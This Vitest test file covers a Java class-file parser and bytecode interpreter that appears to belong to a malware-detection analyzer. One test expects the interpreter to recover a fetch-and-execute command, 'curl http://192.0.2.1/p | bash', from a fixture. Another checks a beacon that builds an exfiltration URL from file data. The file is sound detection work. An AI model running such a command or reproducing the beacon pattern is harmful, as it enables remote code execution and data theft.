import { describe, expect, it } from 'vitest';
import { decode, OP } from '../../src/analyzers/java/bytecode.js';
import {
  ClassFormatError,
  decodeModifiedUtf8,
  lineAt,
  parseClassFile,
} from '../../src/analyzers/java/classfile.js';
import { describeValue, interpretMethod, knownString } from '../../src/analyzers/java/interpret.js';
import { classBytes } from './classgen.js';
import { classesOf, hasJavac } from './helpers.js';

const JDK = hasJavac();

describe('class-file reader', () => {
  it('reads a generated class: names, methods, ldc strings', () => {
    const cls = parseClassFile(classBytes('a/b/C', ['x', 'y'], ['hello', 'http://192.0.2.1/']));
    expect(cls.name).toBe('a/b/C');
    expect(cls.superName).toBe('java/lang/Object');
    expect(cls.methods.map((m) => m.name)).toEqual(['x', 'y', 'strings']);
    expect([...cls.pool.strings()]).toEqual(['hello', 'http://192.0.2.1/']);
    const ins = decode(cls.methods[2]!.code!.code);
    expect(ins.map((i) => i.op)).toEqual([OP.ldc_w, OP.pop, OP.ldc_w, OP.pop, OP.return]);
  });

  it('fails with ClassFormatError on bad magic, truncation and bad constant tags', () => {
    const good = classBytes('a/B', ['m']);
    expect(() => parseClassFile(Buffer.from('PK\x03\x04 not a class'))).toThrow(ClassFormatError);
    expect(() => parseClassFile(good.subarray(0, good.length - 5))).toThrow(/truncated/);
    const badTag = Buffer.from(good);
    badTag[10] = 99; // first constant's tag
    expect(() => parseClassFile(badTag)).toThrow(/unknown constant-pool tag 99/);
  });

  it('rejects invalid opcodes and truncated switches', () => {
    expect(() => decode(Buffer.from([0xfe]))).toThrow(/invalid opcode/);
    expect(() => decode(Buffer.from([OP.tableswitch, 0, 0, 0]))).toThrow(ClassFormatError);
    expect(decode(Buffer.from([OP.wide, OP.iinc, 0, 1, 0, 5])).map((i) => [i.op, i.arg, i.arg2])).toEqual([
      [OP.iinc, 1, 5],
    ]);
  });

  it('decodes modified UTF-8 (two-byte NUL, surrogate pairs)', () => {
    expect(decodeModifiedUtf8(Buffer.from([0x61, 0xc0, 0x80, 0x62]))).toBe('a\u0000b');
    expect(decodeModifiedUtf8(Buffer.from([0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]))).toBe('\u{1f600}');
  });
});

describe.skipIf(!JDK)('class-file reader and interpreter on javac output', () => {
  it('reads LineNumberTable, exception handlers and invokedynamic concat recipes', () => {
    const cls = parseClassFile(classesOf('fx/exfil')['fx/exfil/Beacon.class']!);
    const send = cls.methods.find((m) => m.name === 'send')!;
    expect(send.code!.lines.length).toBeGreaterThan(0);
    expect(lineAt(send.code!, 0)).toBe(send.code!.lines[0]![1]);
    expect(cls.bootstrapMethods[0]?.method?.owner).toBe('java/lang/invoke/StringConcatFactory');
    const summary = interpretMethod(cls, send, { statics: new Map() });
    const url = summary.calls.find((c) => c.ref.owner === 'java/net/URL' && c.ref.name === '<init>')!;
    expect(url.args[0]?.src).toEqual(expect.arrayContaining(['file', 'encoded']));
    expect(describeValue(url.args[0])).toBe('…');
  });

  it('tracks static arrays filled in <clinit>, ternaries and StringBuilder chains', () => {
    const lib = parseClassFile(classesOf('fx/chain')['fx/chain/Lib.class']!);
    const init = lib.methods.find((m) => m.name === 'init')!;
    const s = interpretMethod(lib, init, { statics: new Map() });
    const exec = s.calls.find((c) => c.ref.name === 'exec')!;
    expect(exec.args[0]?.arr?.items.map((i) => knownString(i))).toEqual([
      'bash',
      '-c',
      'curl http://192.0.2.1/p | bash',
    ]);
    expect(s.strings.some((x) => x.computed && x.value === 'curl http://192.0.2.1/p | bash')).toBe(true);
  });
});
